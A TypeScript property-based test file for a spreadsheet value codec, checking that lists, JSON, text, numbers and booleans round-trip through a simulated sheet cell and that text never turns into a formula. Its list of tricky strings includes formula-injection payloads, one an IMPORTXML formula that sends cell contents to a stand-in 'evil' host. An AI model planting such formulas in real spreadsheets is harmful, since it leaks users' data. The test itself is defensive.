// The value codec through the simulated sheet: any service value written the way a pull writes it
// (plain-text columns for text and JSON, typed cells otherwise) reads back as the same value.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createSimulator } from '../../emulators/apps-script';
import { cellDigestFor, decodeCell, encodeCell, valueDigest } from '../../src/core/codec';
import type { ColumnKind } from '../../src/core/columns';

const sim = createSimulator({ code: 'function noop() {}' });
const sheet = sim.spreadsheet.getActiveSheet();
const context = {
  formatDate: (date: { getTime(): number }) => new Date(date.getTime()).toISOString().slice(0, 10),
};

function throughCell(value: unknown, kind: ColumnKind): unknown {
  const range = sheet.getRange(1, 1);
  range.clear();
  if (kind === 'text' || kind === 'list' || kind === 'json') range.setNumberFormat('@');
  else range.setNumberFormat('0.###############');
  range.setValues([[encodeCell(value, kind).write]]);
  return range.getValues()[0]?.[0];
}

function roundTrip(value: unknown, kind: ColumnKind): void {
  const read = throughCell(value, kind);
  // Unedited: the digest matches, so nothing is sent.
  expect(cellDigestFor(read, kind)).toBe(valueDigest(value, kind));
  // Edited to the same value: decodes to the same JSON.
  const decoded = decodeCell(read, { id: 'c', name: 'c', type: kind, kind, deleted: false }, context);
  expect(decoded.ok).toBe(true);
  // Compared as the JSON that would be sent (JSON has no -0).
  if (decoded.ok) expect(JSON.stringify(decoded.value)).toBe(JSON.stringify(value));
}

describe('a value through a simulated cell and back', () => {
  it('any list of texts in a list column, shown with commas or as JSON', () => {
    const choice = fc.oneof(
      fc.string({ maxLength: 10 }),
      fc.constantFrom('a, b', ' x', '00123', 'TRUE', '=1+1', '[', ''),
    );
    fc.assert(
      fc.property(fc.array(choice, { maxLength: 5 }), (value) => roundTrip(value, 'list')),
      { numRuns: 300 },
    );
  });

  it('any JSON value in a JSON column', () => {
    fc.assert(
      fc.property(
        fc.jsonValue().filter((v) => v !== null),
        (value) => roundTrip(value, 'json'),
      ),
      { numRuns: 300 },
    );
  });

  it('any string in a text column, including formula-, number-, date- and boolean-like text', () => {
    const tricky = fc.constantFrom(
      '=IMPORTXML("http://evil/?"&A1,"//a")',
      '+cmd',
      '-1+1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '00123',
      '1e5',
      '2024-01-05',
      'TRUE',
      '50%',
      '$2.99',
      "'quoted",
      '  spaced  ',
      '‮RTL',
      '😀',
    );
    fc.assert(
      fc.property(fc.oneof(tricky, fc.string({ unit: 'binary', minLength: 1, maxLength: 80 })), (text) =>
        roundTrip(text, 'text'),
      ),
      { numRuns: 300 },
    );
  });

  it('any finite number in a number column, and booleans in a checkbox column', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => roundTrip(value, 'number')),
      { numRuns: 300 },
    );
    roundTrip(true, 'boolean');
    roundTrip(false, 'boolean');
  });

  it('strings that land in a typed column stay text and never become formulas', () => {
    for (const text of ['=1+1', '+cmd', '00123', 'TRUE']) {
      expect(throughCell(text, 'number')).toBe(text);
      expect(sheet.getRange(1, 1).getFormula()).toBe('');
    }
  });
});
